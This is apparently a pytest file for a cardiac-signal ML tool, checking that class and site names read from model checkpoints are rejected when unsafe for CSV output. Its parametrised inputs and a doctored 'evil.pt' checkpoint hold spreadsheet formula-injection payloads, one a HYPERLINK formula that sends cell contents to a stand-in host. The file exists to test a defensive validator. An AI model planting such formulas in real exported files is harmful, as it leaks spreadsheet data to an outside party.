"""Names a model file carries (class and site names) become CSV cells and headers: no spreadsheet formula, no cell
or row break can come from a checkpoint or an ONNX file."""

import pytest
import torch
from typer.testing import CliRunner

from cardiacml.cli import app
from cardiacml.contracts import SignalContract
from cardiacml.errors import DataFormatError
from cardiacml.pretrained import pretrained_path

runner = CliRunner()


@pytest.mark.parametrize("bad", ['=HYPERLINK("http://x.example/?"&A1,"N")', "+1", "-2+3", "@SUM(A1)", "N,S", 'N"',
                                 "N\nS", "N\r", ""])
def test_contract_refuses_names_unsafe_in_csv(bad):
    d = {"kind": "beat", "n_leads": 1, "n_samples": 187, "fs_hz": 125.0, "target_units": "class",
         "target_names": ["N", bad]}
    with pytest.raises(DataFormatError, match="plain label"):
        SignalContract.from_dict(d)


def test_contract_keeps_real_names():
    for names in (["N", "S", "V", "F", "Q"], ["normal", "abnormal"], [f"AHA{i:02d}" for i in range(1, 18)]):
        assert list(SignalContract.from_dict({"kind": "beat", "n_leads": 1, "n_samples": 187, "fs_hz": 125.0,
                                              "target_names": names}).target_names) == names


def test_checkpoint_with_formula_site_name_writes_no_csv(tmp_path, shared):
    ck = torch.load(pretrained_path("heart-act"), weights_only=True)
    names = list(ck["contract"]["target_names"])
    names[0] = '=HYPERLINK("http://x.example/?"&A1,"AHA01")'
    ck["contract"]["target_names"] = ck["contract"]["site_names"] = names
    torch.save(ck, tmp_path / "evil.pt")
    out = tmp_path / "out.csv"
    res = runner.invoke(app, ["predict", str(tmp_path / "evil.pt"), str(shared / "wfdb_samples" / "s0010_re"),
                              "--out", str(out)])
    assert res.exit_code == 2, res.output
    assert "plain label" in res.output
    assert not out.exists()
